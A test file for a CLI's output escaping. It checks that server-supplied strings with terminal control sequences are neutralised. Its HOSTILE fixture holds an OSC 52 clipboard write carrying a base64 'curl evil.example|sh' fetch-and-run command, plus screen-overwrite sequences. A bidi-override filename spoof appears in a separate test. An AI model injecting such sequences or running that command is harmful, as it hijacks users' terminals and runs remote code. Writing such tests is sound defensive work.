import { describe, expect, it } from 'vitest';
import type { CliIo } from '../../src/cli/io.js';
import { Output } from '../../src/cli/output.js';

/** What a hostile service may put in any string: an OSC 52 clipboard write, a CR, a screen clear. */
const HOSTILE =
  'name\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\roverwritten\u001b[2J\u009b2J end';
const ESCAPED =
  'name\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07\\x0doverwritten\\x1b[2J\\x9b2J end';

function io(isTTY: boolean): CliIo & { written: string[] } {
  const written: string[] = [];
  return {
    written,
    stdout: (t) => written.push(t),
    stderr: (t) => written.push(t),
    isTTY,
    env: { FORCE_COLOR: isTTY ? '1' : '0' },
  };
}

/** Every control byte but newline, tab and the CLI's own colour sequences. */
function controlsIn(text: string): string[] {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: matching control bytes is the point
  const withoutOwnColours = text.replace(/\u001b\[(?:1|2|22|31|32|33|36|39)m/g, '');
  return [...withoutOwnColours].filter((c) =>
    // biome-ignore lint/suspicious/noControlCharactersInRegex: matching control bytes is the point
    /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.test(c),
  );
}

describe('Output on a terminal', () => {
  it.each([true, false])(
    'writes server control bytes escaped in lines, notes, tables and fields (TTY %s)',
    (isTTY) => {
      const sink = io(isTTY);
      const out = new Output(sink);
      out.line(`session ${HOSTILE}`);
      out.note(`note ${HOSTILE}`);
      out.table([{ id: HOSTILE, status: out.paint.green('running') }], ['id', 'status']);
      out.fields([
        ['title', HOSTILE],
        ['config', { label: HOSTILE }],
      ]);
      for (const text of sink.written) expect(controlsIn(text)).toEqual([]);
      expect(sink.written[0]).toBe(`session ${ESCAPED}`);
      expect(sink.written[1]).toBe(`note ${ESCAPED}`);
      expect(sink.written.join('\n')).toContain(ESCAPED);
    },
  );

  it("keeps newlines, tabs and the CLI's own colours", () => {
    const sink = io(true);
    const out = new Output(sink);
    out.table([{ id: 's-1', status: out.paint.green('running') }], ['id', 'status']);
    out.line('a\tb\nc');
    expect(sink.written.join('\n')).toContain('\u001b[32mrunning\u001b[39m');
    expect(sink.written.at(-1)).toBe('a\tb\nc');
  });

  it('escapes bidi overrides that reorder what a terminal shows', () => {
    const sink = io(false);
    new Output(sink).line('file\u202Egnp.exe');
    expect(sink.written).toEqual(['file\\u202egnp.exe']);
  });
});

describe('Output with --json', () => {
  it('prints exact JSON, the server strings in it unchanged', () => {
    const sink = io(true);
    const value = { id: HOSTILE, nested: [HOSTILE] };
    new Output(sink, { json: true }).result(value, () => {
      throw new Error('not human');
    });
    expect(sink.written).toHaveLength(1);
    expect(JSON.parse(sink.written[0] as string)).toEqual(value);
  });
});
